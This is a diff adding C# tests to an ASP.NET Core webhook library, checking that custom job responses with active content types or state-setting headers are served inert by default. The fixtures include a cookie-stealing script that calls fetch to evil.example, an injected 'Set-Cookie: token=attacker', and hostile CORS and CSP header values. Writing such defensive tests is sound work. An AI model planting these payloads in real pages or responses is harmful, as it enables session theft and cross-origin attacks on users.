@@ -1,11 +1,13 @@
 using System.Net;
+using Microsoft.AspNetCore.Hosting;
 using Windmill.Webhooks.AspNetCore.Tests.Infrastructure;
 
 namespace Windmill.Webhooks.AspNetCore.Tests;
 
 /// <summary>
 /// Results that shape their own response (windmill-api.md §3.5). <c>u/bot/echo</c> returns its args, so
-/// posting a composite object makes it the job's result.
+/// posting a composite object makes it the job's result. Active content and headers that set the origin's state or
+/// policy are served inert unless the host sets <c>AllowActiveCustomResponses</c>.
 /// </summary>
 public sealed class CustomResponseTests : SampleAppTest
 {
@@ -89,6 +91,100 @@ public sealed class CustomResponseTests : SampleAppTest
     public async Task A_failed_job_still_answers_422_with_its_error() =>
         await Wire.AssertAsync(await Client.PostAsync(SampleApp.Api + "/jobs/run_wait_result/p/u/bot/fail", Wire.JsonBody("""{"message":"nope"}""")),
             HttpStatusCode.UnprocessableEntity, Wire.Json, """{"error":{"name":"InvalidOperationException","message":"nope"}}""");
+
+    [Fact]
+    public async Task A_crafted_echo_link_with_html_and_set_cookie_is_served_as_inert_text_that_sets_no_cookie()
+    {
+        var (echoToken, _) = await App.Tokens.CreateAsync(new() { Owner = "admin", Scopes = ["jobs:run:scripts:u/bot/echo"], WorkspaceId = "demo" },
+            CancellationToken.None);
+        const string page = "<html><script>fetch('//evil.example/'+document.cookie)</script></html>";
+        var payload = Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes($$"""
+            {"windmill_content_type":"text/html","windmill_headers":{"Set-Cookie":"token=attacker; Path=/","X-Report":"kept"},"result":"{{page}}"}
+            """));
+        using var anonymous = App.CreateAnonymousClient();
+
+        using var response = await anonymous.GetAsync($"{Echo}?payload={Uri.EscapeDataString(payload)}&token={echoToken}");
+
+        await Wire.AssertAsync(response, HttpStatusCode.OK, Wire.Text, page);
+        Assert.False(response.Headers.Contains("Set-Cookie"));
+        Assert.Equal("kept", response.Headers.GetValues("x-report").Single());
+        Assert.Equal("nosniff", response.Headers.GetValues("X-Content-Type-Options").Single());
+    }
+
+    [Theory]
+    [InlineData("""{"windmill_content_type":"text/html","result":"<b>x</b>"}""", "<b>x</b>")]
+    [InlineData("""{"windmill_content_type":"TEXT/HTML; charset=utf-8","result":"<b>x</b>"}""", "<b>x</b>")]
+    [InlineData("""{"windmill_content_type":"application/xhtml+xml","result":"<b>x</b>"}""", "<b>x</b>")]
+    [InlineData("""{"windmill_content_type":"image/svg+xml","result":"<b>x</b>"}""", "<b>x</b>")]
+    [InlineData("""{"windmill_content_type":"text/xml","result":"<b>x</b>"}""", "<b>x</b>")]
+    [InlineData("""{"windmill_content_type":"application/xml","result":"<b>x</b>"}""", "<b>x</b>")]
+    [InlineData("""{"windmill_content_type":"text/javascript","result":"<b>x</b>"}""", "<b>x</b>")]
+    [InlineData("""{"windmill_content_type":"application/javascript","result":"<b>x</b>"}""", "<b>x</b>")]
+    [InlineData("""{"windmill_content_type":"text/css","result":"<b>x</b>"}""", "<b>x</b>")]
+    [InlineData("""{"windmill_content_type":"multipart/x-mixed-replace; boundary=b","result":"<b>x</b>"}""", "<b>x</b>")]
+    [InlineData("""{"windmill_content_type":"*/*","result":"<b>x</b>"}""", "<b>x</b>")]
+    [InlineData("""{"windmill_content_type":"not a media type","result":"<b>x</b>"}""", "<b>x</b>")]
+    [InlineData("""{"windmill_headers":{"Content-Type":"text/html"},"result":"<b>x</b>"}""", "\"<b>x</b>\"")]
+    [InlineData("""{"windmill_content_type":"text/html","windmill_content_transfer_encoding":"base64","result":"PGI+eDwvYj4="}""", "<b>x</b>")]
+    public async Task An_active_content_type_is_served_as_inert_text_by_default(string result, string body)
+    {
+        using var response = await EchoAsync(result);
+
+        await Wire.AssertAsync(response, HttpStatusCode.OK, Wire.Text, body);
+        Assert.Equal("nosniff", response.Headers.GetValues("X-Content-Type-Options").Single());
+    }
+
+    [Theory]
+    [InlineData("Set-Cookie", "token=attacker; Path=/")]
+    [InlineData("set-cookie2", "token=attacker")]
+    [InlineData("Clear-Site-Data", "\"cookies\"")]
+    [InlineData("Strict-Transport-Security", "max-age=63072000; includeSubDomains")]
+    [InlineData("Content-Security-Policy", "default-src *")]
+    [InlineData("X-Frame-Options", "ALLOWALL")]
+    [InlineData("X-Content-Type-Options", "sniff")]
+    [InlineData("Access-Control-Allow-Origin", "https://evil.example")]
+    [InlineData("Access-Control-Allow-Credentials", "true")]
+    [InlineData("Cross-Origin-Resource-Policy", "cross-origin")]
+    [InlineData("Service-Worker-Allowed", "/")]
+    public async Task Headers_that_set_the_origins_state_or_policy_are_dropped_by_default(string name, string value)
+    {
+        using var response = await EchoAsync($$"""{"windmill_content_type":"text/csv","windmill_headers":{"{{name}}":{{System.Text.Json.JsonSerializer.Serialize(value)}},"X-Report":"kept"},"result":"a,b"}""");
+
+        await Wire.AssertAsync(response, HttpStatusCode.OK, "text/csv", "a,b");
+        Assert.Equal("kept", response.Headers.GetValues("x-report").Single());
+        Assert.Equal("nosniff", response.Headers.GetValues("X-Content-Type-Options").Single());
+        Assert.DoesNotContain(response.Headers.Concat(response.Content.Headers), header => header.Value.Contains(value));
+    }
+
+    [Theory]
+    [InlineData("""{"windmill_status_code":201,"result":{"a":1}}""", HttpStatusCode.Created, Wire.Json, """{"a":1}""")]
+    [InlineData("""{"windmill_content_type":"text/csv","result":"a,b"}""", HttpStatusCode.OK, "text/csv", "a,b")]
+    [InlineData("""{"windmill_headers":{"x-done":"yes"}}""", HttpStatusCode.NoContent, null, "")]
+    public async Task Every_custom_response_carries_nosniff(string result, HttpStatusCode status, string? contentType, string body)
+    {
+        using var response = await EchoAsync(result);
+
+        await Wire.AssertAsync(response, status, contentType, body);
+        Assert.Equal("nosniff", response.Headers.GetValues("X-Content-Type-Options").Single());
+    }
+
+    [Fact]
+    public async Task A_host_that_opts_in_serves_active_content_and_its_headers_as_asked()
+    {
+        await using var sample = new SampleApp();
+        await using var optedIn = sample.WithWebHostBuilder(web => web.UseSetting("Windmill:AllowActiveCustomResponses", "true"));
+        using var client = optedIn.CreateClient(new() { AllowAutoRedirect = false, HandleCookies = false });
+        client.DefaultRequestHeaders.Authorization = new("Bearer", SampleApp.AdminToken);
+
+        using var response = await client.PostAsync(Echo, Wire.JsonBody("""
+            {"windmill_content_type":"text/html","windmill_headers":{"Set-Cookie":"theme=dark; Path=/","Content-Security-Policy":"default-src 'self'"},"result":"<b>x</b>"}
+            """));
+
+        await Wire.AssertAsync(response, HttpStatusCode.OK, "text/html", "<b>x</b>");
+        Assert.Equal("theme=dark; Path=/", response.Headers.GetValues("Set-Cookie").Single());
+        Assert.Equal("default-src 'self'", response.Headers.GetValues("Content-Security-Policy").Single());
+        Assert.Equal("nosniff", response.Headers.GetValues("X-Content-Type-Options").Single());
+    }
 
     private Task<HttpResponseMessage> EchoAsync(string result) => Client.PostAsync(Echo, Wire.JsonBody(result));
 }
